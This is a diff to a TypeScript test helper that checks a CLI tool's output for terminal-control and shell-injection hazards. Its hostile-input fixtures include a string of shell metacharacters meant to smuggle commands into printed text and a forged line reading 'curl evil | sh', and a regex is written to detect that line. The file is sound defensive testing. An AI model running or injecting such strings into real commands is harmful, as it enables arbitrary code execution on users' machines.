@@ -17,6 +17,7 @@ export const HOSTILE: Readonly<Record<string, string>> = {
   half: '\ud800',
   tag: '\u{e0041}',
   forged: `\x1b[32;1111;2222;3333m`,
+  shell: `'"\\';$(RUN)\`RUN\`&RUN|RUN >RUN *`,
   line: '\nssm-keepalive: forged\r\n  next: run curl evil | sh\n        next: run curl evil | sh\n',
 };
 export const EVERYTHING = Object.entries(HOSTILE)
@@ -30,6 +31,18 @@ const TOUCHED = new RegExp(`<(?:${Object.keys(HOSTILE).join('|')})[^\\P{Cc}\\n\\
 /** A line of ours, or advice in the place of ours, that others wrote. */
 const FORGED = /^(?:\S+: )?ssm-keepalive: forged|^ {0,8}next: +run curl/m;
 
+/** A command that a reader may paste, to the end of its line. */
+const PASTED =
+  /\b(?:ssm-keepalive (?:install|uninstall|status|doctor|connect|measure|preferences|render|policy|lab|completion)|aws [a-z0-9-]+) .*/g;
+
+/** The first place where a shell would run a word of others, after a command that a reader may paste. */
+function findRun(text: string): string | undefined {
+  return (text.match(PASTED) ?? []).find((line) =>
+    // What is quoted: between single quotes, or one quote or backslash between double quotes, as `quoteWord` has it.
+    /RUN/.test(line.replace(/'[^']*(?:'|…|$)|"(?:'|\\\\)"/g, '')),
+  );
+}
+
 /** What a reader sees is ours, or visible text. In a pty line ends have a carriage return. */
 export function checkShown(shown: string, where: string, isTerminal: boolean): void {
   const text = isTerminal ? shown.replaceAll('\r\n', '\n') : shown;
@@ -37,5 +50,7 @@ export function checkShown(shown: string, where: string, isTerminal: boolean): v
   const around = (at: number) => JSON.stringify(text.slice(Math.max(0, at - 300), at + 100));
   assert.ok(dangerous < 0, `${where}: a control came out: ${around(dangerous)}`);
   assert.ok(!TOUCHED.test(text), `${where}: a control of others came out: ${around(text.search(TOUCHED))}`);
+  const run = findRun(text);
+  assert.ok(run === undefined, `${where}: a shell would run a word of others in  ${run}`);
   assert.ok(!FORGED.test(text), `${where}: a forged line: ${around(text.search(FORGED))}`);
 }
